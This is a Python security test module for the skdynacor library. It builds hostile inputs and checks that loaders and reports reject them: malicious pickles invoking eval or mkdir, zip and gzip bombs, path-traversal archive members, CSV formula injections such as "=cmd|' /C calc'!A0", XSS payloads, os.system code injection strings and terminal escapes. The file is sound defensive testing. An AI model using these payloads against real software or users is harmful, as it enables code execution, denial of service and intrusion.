"""Files and names that somebody made to do harm, and what must become of each.

A case is called with an empty folder, in which it makes what it needs. It returns where it has
shown that nothing came of it, and raises ``Harm`` where something did; any other error is a
refusal, and must be of a kind that is documented. What would run code makes a folder ``CRATER``.
"""

import ast
import contextlib
import csv
import gzip
import io
import json
import os
import pickle
import re
import tarfile
import tempfile
import zipfile
from collections import Counter
from functools import lru_cache, partial
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pandas as pd
import pyarrow as pa
import torch
from pyarrow import parquet
from sklearn.datasets import make_blobs
from sklearn.ensemble import RandomForestClassifier

from skdynacor import DynamicsCollector, LabelCorruptor, make_dynacor_pipeline, report
from skdynacor.command_line.main import main as skdynacor
from skdynacor.datasets import load_cifar10, load_cifar10n, load_npz
from skdynacor.inspection import read_review, write_review
from skdynacor.nets import make_mlp_classifier
from skdynacor.recording import checkpoints

CRATER = "crater"


class Harm(AssertionError):
    """Something came of a hostile file."""


class Case(NamedTuple):
    """A hostile file, and what is done with it."""

    kind: str
    name: str
    attempt: Any  # called with an empty folder, a Path


def require(fact, otherwise):
    """Raise ``Harm`` where something is not as it should be."""
    if not fact:
        raise Harm(otherwise)


def command(*args):
    """Call ``skdynacor``; return stdout, or raise its error as it is told."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = skdynacor([str(arg) for arg in args])
    said = err.getvalue()
    if code:
        require(code == 2 and said.count("\n") == 1, f"ended with {code}: {said}")
        raise ValueError(said)
    return out.getvalue()


# --------------------------------------------------------------------------- pickles


class Code:
    """Unpickles by making a folder."""

    def __init__(self, folder):
        self.folder = folder

    def __reduce__(self):
        return os.mkdir, (str(self.folder / CRATER),)


class Call:
    """Unpickles by calling something that a file may name."""

    def __init__(self, function, *args):
        self.call = function, args

    def __reduce__(self):
        return self.call


def an_object(folder):
    """An array whose entries are code."""
    array = np.empty(9, dtype=object)
    array[:] = [Code(folder)] * 9
    return array


def npz_of_objects(folder, load, **arrays):
    """Read an archive in which one array is pickled."""
    path = folder / "pets.npz"
    arrays = {"X": np.eye(9), "y_true": np.arange(9) % 2, "y_given": np.arange(9) % 2} | arrays
    arrays = {k: an_object(folder) if v is an_object else v for k, v in arrays.items()}
    np.savez(path, **arrays)
    load(path)


def cifar_batch(folder, data, labels=(1,), protocol=2):
    """Read a batch of images."""
    batch = {b"data": data(folder), b"labels": list(labels)}
    (folder / "test_batch").write_bytes(pickle.dumps(batch, protocol=protocol))
    load_cifar10(folder, "test")


_reconstruct = np.empty(0).__reduce__()[0]


def bytes_that_grow(folder):
    """Bytes that double each time that they are unpickled once more."""
    import _codecs

    grown = b"\xff" * 3072
    for _ in range(30):
        grown = Call(_codecs.encode, grown, "hex")
    return grown


HUMAN = ("clean", "aggre", "worse")
HUMAN = [f"{name}_label" for name in HUMAN] + [f"random_label{i}" for i in (1, 2, 3)]


def human_labels(folder, worse):
    """Read labels that people gave, one kind of which is another thing."""
    labels = {key: [1, 2, 3] for key in HUMAN} | {"worse_label": worse(folder)}
    torch.save(labels, folder / "CIFAR-10_human.pt")
    load_cifar10n(folder)


def training_folder(folder, name):
    """Take up a training in whose folder a file was replaced."""
    X, y = small_blobs()
    rows = LabelCorruptor(random_state=0).fit_transform(X, y)
    collector = DynamicsCollector(
        make_mlp_classifier(max_epochs=2),
        checkpoint_dir=folder / "training",
        keep_checkpoints=folder / "weights",
        random_state=0,
    ).fit(rows, y)
    (path,) = folder.rglob(name)
    checkpoints._save({"weights": Code(folder), "n_epochs": Code(folder)}, path)
    if name.startswith("weights"):
        collector.transform(X + 1)
    else:
        collector.fit(rows, y)


@lru_cache
def small_blobs():
    """A few rows that lie apart, as float32."""
    X, y = make_blobs(60, n_features=4, centers=3, random_state=0)
    return X.astype(np.float32), y


find_objects = partial(command, "find")
PICKLES = {
    "X of objects in .npz": partial(npz_of_objects, load=load_npz, X=an_object),
    "labels of objects in .npz": partial(npz_of_objects, load=load_npz, y_given_a=an_object),
    "an array nobody asked for, of objects": partial(npz_of_objects, load=load_npz, z=an_object),
    "X of objects, command": partial(npz_of_objects, load=find_objects, X=an_object),
    "labels of objects, command": partial(npz_of_objects, load=find_objects, y_given=an_object),
    "code in a batch of images": partial(cifar_batch, data=Code),
    "code in a batch, protocol 5": partial(cifar_batch, data=Code, protocol=5),
    "eval in a batch": partial(cifar_batch, data=lambda folder: Call(eval, "1")),
    "getattr in a batch": partial(cifar_batch, data=lambda folder: Call(getattr, "", "join")),
    "np.load in a batch": partial(cifar_batch, data=lambda folder: Call(np.load, "x.npy")),
    "bytes that double 30 times": partial(cifar_batch, data=bytes_that_grow),
    "an array of a shape alone": partial(
        cifar_batch, data=lambda folder: Call(_reconstruct, np.ndarray, (2**20, 3072), "u1")
    ),
    "one byte seen as many": partial(
        cifar_batch,
        data=lambda folder: Call(np.ndarray, (2**20, 3072), "u1", b"\0", 0, (0, 0)),
    ),
    "code among human labels": partial(human_labels, worse=Code),
    "objects among human labels": partial(human_labels, worse=an_object),
    "human labels of a shape alone": partial(
        human_labels, worse=lambda folder: Call(_reconstruct, np.ndarray, (2**32,), "u1")
    ),
    "code in state.pt": partial(training_folder, name="state.pt"),
    "code in an epoch's file": partial(training_folder, name="epoch-0001.pt"),
    "code in kept weights": partial(training_folder, name="weights-0001.pt"),
}


# --------------------------------------------------------------------------- archives

MEBIBYTE = 2**20


def header_of(shape, dtype):
    """The first bytes of an array in a file."""
    stream = io.BytesIO()
    described = {"descr": dtype, "fortran_order": False, "shape": shape}
    np.lib.format.write_array_header_2_0(stream, described)
    return stream.getvalue()


def write_zeros(archive, name, n_mebibytes):
    """Add an array of zeros, (1024 · n_mebibytes, 1024) bytes, to an archive."""
    with archive.open(f"{name}.npy", "w") as member:
        member.write(header_of((1024 * n_mebibytes, 1024), "|u1"))
        for _ in range(n_mebibytes):
            member.write(bytes(MEBIBYTE))


def bomb(folder, load, names=("X",), n_mebibytes=80):
    """Read an archive of little more than zeros."""
    path = folder / "pets.npz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            write_zeros(archive, name, n_mebibytes)
    labels = np.arange(9) % 2
    with zipfile.ZipFile(path, "a") as archive:
        for name in {"X", "y_true", "y_given"} - set(names):
            stream = io.BytesIO()
            np.save(stream, labels if name != "X" else np.eye(9))
            archive.writestr(f"{name}.npy", stream.getvalue())
    load(path)
    raise Harm("it was unpacked")


def lying_header(folder, load):
    """Read an array that says to be 8 TiB, and holds nothing."""
    path = folder / "pets.npz"
    np.savez(path, y_true=np.arange(9) % 2, y_given=np.arange(9) % 2)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("X.npy", header_of((2**40,), "<f8"))
    load(path)
    raise Harm("it was believed")


def outside_members(folder, load):
    """Read an archive whose members are named as files elsewhere."""
    path = folder / "pets.npz"
    arrays = {"X": np.eye(9), "y_true": np.arange(9) % 2, "y_given": np.arange(9) % 2}
    stray = {f"y_given_{'../' * 3}stray": arrays["y_given"], "../stray": np.eye(2)}
    np.savez(path, **arrays)
    with zipfile.ZipFile(path, "a") as archive:
        for name, array in (stray | {str(folder.parent / "stray"): np.eye(2)}).items():
            stream = io.BytesIO()
            np.save(stream, array)
            archive.writestr(f"{name}.npy", stream.getvalue())
    load(path)


def images_still_packed(folder):
    """Look for images in a folder that holds an archive with members elsewhere."""
    with tarfile.open(folder / "cifar-10-python.tar.gz", "w:gz") as archive:
        for name in ("../stray", "/tmp/stray-of-skdynacor", "cifar-10-batches-py/test_batch"):
            archive.addfile(tarfile.TarInfo(name))
    load_cifar10(folder, "test")


def packed_table(folder, line):
    """Read a table that unpacks to 128 MiB, a member of an archive at a time."""
    part = gzip.compress(line * (MEBIBYTE // len(line)))
    (folder / "table.csv.gz").write_bytes(gzip.compress(b"a,y\n") + part * 128)
    command("find", folder / "table.csv.gz", "--label", "y")
    raise Harm("it was unpacked")


def named_elsewhere(folder):
    """Read a table whose archive says that it belongs in another place."""
    text = b"a,y\n" + b"".join(b"%d,%d\n" % (10 * (i % 2) + i % 3, i % 2) for i in range(60))
    with (
        (folder / "table.csv.gz").open("wb") as stream,
        gzip.GzipFile("../../stray.csv", "wb", fileobj=stream) as packed,
    ):
        packed.write(text)
    require("class" in command("find", folder / "table.csv.gz", "--label", "y"), "nothing said")


def packed_columns(folder):
    """Read a Parquet file of 2**26 rows that are all the same."""
    n = 2**26
    table = pa.table({"a": pa.nulls(n, pa.int8()), "y": pa.nulls(n, pa.int8())})
    parquet.write_table(table, folder / "table.parquet")
    command("find", folder / "table.parquet", "--label", "y")
    raise Harm("it was unpacked")


ARCHIVES = {
    **{
        f"{name}, {reader}": partial(function, load=load)
        for reader, load in {"load_npz": load_npz, "command": find_objects}.items()
        for name, function in {
            "zeros": bomb,
            "zeros as labels": partial(bomb, names=["y_given"]),
            "a header of 8 TiB": lying_header,
            "members named as files elsewhere": outside_members,
        }.items()
    },
    "zeros in four arrays, each small": partial(
        bomb, load=load_npz, names=[f"y_given_{i}" for i in range(4)], n_mebibytes=20
    ),
    "images still packed, members elsewhere": images_still_packed,
    "a table of one line": partial(packed_table, line=b"a"),
    "a table of equal lines": partial(packed_table, line=b"1" * 1000 + b",1\n"),
    "a table that names another place": named_elsewhere,
    "a Parquet file of equal rows": packed_columns,
}


# --------------------------------------------------------------------------- names

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\r\n=1+1",
    'a",=1+1',
    "'=1+1",
    "''-1+1",
]
NUMBERS = ["-1", "+1", "-1.5", "1e5"]
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<!--",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "&lt;b&gt;",
    "{{7*7}} ${7*7}",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "a\N{LINE SEPARATOR}b",
    r"$\frac{1}{$",
]
CODE = [
    "'); __import__('os').system('true'); ('",
    '"""; raise SystemExit; """',
    "\\'\n raise SystemExit #",
    "{__import__('os')}",
    "%s %d {0}",
]
ESCAPES = ["\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x9b2J", "a\x08\x08b", "a\rb"]


def cells_under(text):
    """Give what may become of a text in a spreadsheet: cells, whatever separates them there."""
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from row


def runs(cell):
    """Tell whether a spreadsheet would take a cell for a formula."""
    cell = cell.strip()
    with contextlib.suppress(ValueError):
        float(cell)
        return False
    return cell.startswith(tuple("=+-@＝＋－＠"))


def check_cells(path):
    """Require that a file of cells has no formula in it."""
    text = path.read_bytes().decode("utf-8-sig")
    found = [cell for cell in cells_under(text) if runs(cell)]
    require(not found, f"formulas in {path.name}: {found[:3]}")


def in_review(folder, place, text):
    """Write a text into a review, and read it back."""
    y = np.array(["a", "b", "c", "d"] * 2, dtype=object)
    if place == "label":
        y[y == "b"] = text
    issues = pd.DataFrame(
        {
            "position": range(8),
            "index": [text if place == "index" else f"row {i}" for i in range(8)],
            "given_label": y,
            "suggested_label": y[::-1],
            "noise_probability": 0.5,
            text if place == "column" else "note": text if place == "entry" else "",
            "decision": text if place == "label" and text == text.strip() else "",
        }
    )
    path = folder / "review.csv"
    write_review(issues, path)
    check_cells(path)
    read = read_review(path, y)
    require(list(read.columns) == list(issues.columns), f"columns are {list(read.columns)}")
    for name in issues.columns:
        if issues[name].dtype.kind == "O":
            given, found = ([str(v) for v in frame[name]] for frame in (issues, read))
            require(found == given, f"{name} {given[:3]} came back as {found[:3]}")


def in_numbers(folder, kind):
    """Write labels that are negative numbers, and read them back."""
    y = np.array([-1, 1, -1, 1, 0, -2], dtype=kind)
    issues = pd.DataFrame({"position": range(6), "given_label": y, "suggested_label": y[::-1]})
    path = folder / "review.csv"
    write_review(issues.assign(decision=y.astype(str)), path)
    check_cells(path)
    require("'" not in path.read_text(), "numbers are no longer numbers")
    read = read_review(path, y)
    require(np.array_equal(read.given_label, y), "labels changed")


def hostile_table(names):
    """A table whose labels and columns have these names, and can be learnt."""
    n = 8 * len(names)
    codes = np.arange(n) % len(names)
    rng = np.random.default_rng(0)
    table = pd.DataFrame({name: rng.normal(size=n) for name in names})
    table["code"] = codes + rng.normal(scale=0.1, size=n)
    labels = np.array(names, dtype=object)[codes]
    labels[: len(names)] = np.roll(labels[: len(names)], 1)
    return table, labels


def through_the_command(folder, names):
    """Have the command find wrong labels, and look at all that it writes and prints."""
    X, y = hostile_table(names)
    X.assign(**{names[0] + "?": y}).to_csv(folder / "table.csv", index=False, lineterminator="\r\n")
    said = command(
        *("find", folder / "table.csv", "--label", names[0] + "?"),
        *("--out", folder / "issues.csv", "--report", folder / "report.html", "--seed", 0),
    )
    strange = [c for c in said if not c.isprintable() and c != "\n"]
    require(not strange, f"printed {strange[:3]}")
    check_cells(folder / "issues.csv")
    read = read_review(folder / "issues.csv", y)
    require(set(read.given_label) <= set(names), "labels changed")
    require(set(names) <= set(read.columns), "columns changed")
    check_page(folder / "report.html", names)


class Tags(HTMLParser):
    """Counts the tags and attributes of a page, and keeps the data in it."""

    def __init__(self, page):
        super().__init__(convert_charrefs=False)
        self.count, self.data, self._in_data = Counter(), "", False
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self._in_data = dict(attributes).get("id") == "data"
        self.count[tag, *(name for name, _ in attributes)] += 1

    def handle_data(self, data):
        self.data += data if self._in_data else ""


def check_page(path, names):
    """Require that a page has the tags of any page, and that names are data in it."""
    page = Tags(path.read_text(encoding="utf-8"))
    strange = [tag for tag in page.count if tag[0] == "img" or any(a[:2] == "on" for a in tag[1:])]
    require(not strange, f"the page has {strange}")
    require(page.count["script",] == page.count["script", "type", "id"] == 1, "more scripts")
    require("default-src 'none'" in path.read_text(encoding="utf-8"), "no policy")
    data = json.loads(page.data)
    require(set(map(str, data["classes"])) <= set(names), "labels changed")


@lru_cache
def page_of(*names):
    """Read a report that has names for labels, columns, rows, contents and title."""
    X, y = hostile_table(names)
    X.index = [f"{y[i]} {i}" for i in range(len(y))]
    pipe = make_dynacor_pipeline(RandomForestClassifier(20, random_state=0), random_state=0)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "report.html")
        report(pipe.fit(X, y), X, y, path, texts=list(y), title="".join(names))
        check_page(path, names)
        return Tags(path.read_text(encoding="utf-8"))


def in_page(folder, text):
    """Have a text in a report, beside others of its kind, which may be nothing but data in it."""
    page, plain = page_of(*MARKUP), page_of(*(f"name {i}" for i in range(len(MARKUP))))
    strange = set(page.count) - set(plain.count)
    require(not strange, f"the page has {strange}")
    data = json.loads(page.data)
    require(text in data["classes"], "the label is not in the data")
    require(text in data["evidence"]["names"], "the column is not in the data")
    require(any(text in entry for entry in data["issues"]["index"]), "the row is not in the data")


def in_program(folder, text):
    """Have a text for columns of a table, and of the program that the command prints."""
    X, y = hostile_table([text, "b", "c"])
    X.assign(label=np.arange(len(y)) % 2).to_csv(folder / "table.csv", index=False)
    said = command("find", folder / "table.csv", "--label", "label", "--print-pipeline")
    program = list(ast.walk(ast.parse(said)))
    called = {ast.unparse(node.func) for node in program if isinstance(node, ast.Call)}
    known = (
        r"pd\.read_csv|table\[.+\]\.(copy|to_numpy)|\w+_pipeline|pipeline\.fit_predict|Pipeline|"
        "TableVectorizer|MinHashEncoder"
    )
    strange = [name for name in called if not re.fullmatch(known, name, re.DOTALL)]
    require(not strange, f"the program calls {strange}")
    texts = {node.value for node in program if isinstance(node, ast.Constant)}
    require(text in texts, "the column is not in the program")


CASES = [
    *(Case("pickles", *item) for item in PICKLES.items()),
    *(Case("archives", *item) for item in ARCHIVES.items()),
    *(
        Case("formulas", f"{text!r} as {place}", partial(in_review, place=place, text=text))
        for places, texts in {
            ("label", "index", "column", "entry"): FORMULAS,
            ("label", "index", "column"): NUMBERS,
        }.items()
        for text in texts
        for place in places
    ),
    *(
        Case("formulas", f"labels of {kind}", partial(in_numbers, kind=kind))
        for kind in ("int64", "float64", "U2")
    ),
    Case("formulas", "all through the command", partial(through_the_command, names=FORMULAS)),
    *(Case("markup", f"{text!r} in a report", partial(in_page, text=text)) for text in MARKUP),
    Case("markup", "all through the command", partial(through_the_command, names=MARKUP)),
    *(Case("programs", f"{text!r}", partial(in_program, text=text)) for text in CODE),
    Case("terminals", "all through the command", partial(through_the_command, names=ESCAPES)),
]
